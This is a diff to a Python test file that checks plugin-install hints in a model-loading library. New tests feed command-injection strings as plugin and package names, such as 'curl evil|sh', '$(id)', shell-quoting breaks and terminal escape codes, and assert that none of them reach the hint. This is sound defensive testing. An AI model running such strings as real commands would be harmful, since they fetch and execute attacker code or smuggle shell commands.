@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import subprocess
 import sys
 from concurrent.futures import ThreadPoolExecutor
@@ -14,7 +15,8 @@ from heald.contract.op import OpRegistry
 from heald.errors import DataLoss, FailedPrecondition, InvalidArgument, NotFound, Unimplemented
 from heald.program.compiled_model import CompiledModel, Requirement
 from heald.session.ahead_of_time import compile_model
-from heald.session.compiled_model import LoadedCompiledModel
+from heald.session.compiled_model import OF_OTHERS, LoadedCompiledModel
+from heald.support.install import install_hint
 
 ROOT = Path(__file__).parents[2]
 DIGITS = ROOT / "examples/digits/frozen.pb"
@@ -83,7 +85,7 @@ def test_other_shapes_run_by_the_op_set():
 def test_other_shapes_without_the_op_set_name_its_distribution(monkeypatch):
     model, x = LoadedCompiledModel(compile_model(DIGITS, inputs=batches(4))), fed(3)
     monkeypatch.setattr(OpRegistry, "get", lambda self, name: (_ for _ in ()).throw(NotFound("no op", op=name)))
-    with pytest.raises(FailedPrecondition, match="pip install heald-tf-ops"):
+    with pytest.raises(FailedPrecondition, match=re.escape(install_hint("heald-tf-ops"))):
         model(x)
 
 
@@ -120,9 +122,30 @@ def test_calls_have_the_errors_of_loaded_models():
 @pytest.mark.parametrize("use", ["device", "kernels"])
 def test_a_missing_plugin_is_named_with_its_command(use):
     compiled = compile_model(DIGITS, inputs=batches(4))
-    lacking = compiled._replace(requirements=(Requirement("tpu", "heald-tpu", "1.0", use),))
-    with pytest.raises(FailedPrecondition, match="pip install heald-tpu"):
+    lacking = compiled._replace(requirements=(Requirement("tpu", "heald-opencl", "1.0", use),))
+    with pytest.raises(FailedPrecondition, match="needs plugin tpu") as caught:
         LoadedCompiledModel(lacking)
+    assert caught.value.hint == install_hint("heald-opencl", upgrade=True)  # installed, and has no such plugin
+
+
+@pytest.mark.parametrize("name", ["heald-tpu", "evil-pkg; curl evil|sh", "-r evil.txt", "$(id)", "a\x1b[2J", "../evil",
+                                  "https://evil.test/x.whl", "heald-cpu evil", "heald-cpu\nevil", ""])
+@pytest.mark.parametrize("plugin", ["tpu", "tpu; curl evil|sh", "\x1b]0;evil\x07"])
+def test_the_hint_about_a_missing_plugin_has_no_text_of_the_file(name, plugin):
+    compiled = compile_model(DIGITS, inputs=batches(4))
+    hostile = compiled._replace(requirements=(Requirement(plugin, name, "1.0", "kernels"),))
+    with pytest.raises(FailedPrecondition, match="the model needs plugin") as caught:
+        LoadedCompiledModel(hostile)
+    assert caught.value.hint == OF_OTHERS
+    assert str(caught.value).isprintable()
+
+
+def test_the_hint_about_an_older_plugin_has_no_text_of_the_file():
+    compiled = compile_model(DIGITS, inputs=batches(4))
+    hostile = compiled._replace(requirements=(Requirement("cpu", "evil; curl evil|sh", "99.0'; id; '", "kernels"),))
+    with pytest.raises(FailedPrecondition, match="with plugin cpu 99.0") as caught:
+        LoadedCompiledModel(hostile)
+    assert caught.value.hint == install_hint("heald-cpu", upgrade=True)
 
 
 def test_a_missing_device_is_named():
@@ -135,8 +158,9 @@ def test_a_missing_device_is_named():
 def test_an_older_plugin_is_named_with_the_version_that_is_needed():
     compiled = compile_model(DIGITS, inputs=batches(4))
     newer = compiled._replace(requirements=(Requirement("cpu", "heald-cpu", "99.0", "kernels"),))
-    with pytest.raises(FailedPrecondition, match=r"heald-cpu>=99\.0"):
+    with pytest.raises(FailedPrecondition, match=r"with plugin cpu 99\.0, installed is") as caught:
         LoadedCompiledModel(newer)
+    assert caught.value.hint == install_hint("heald-cpu", upgrade=True)
 
 
 def test_a_model_without_entries_is_refused():
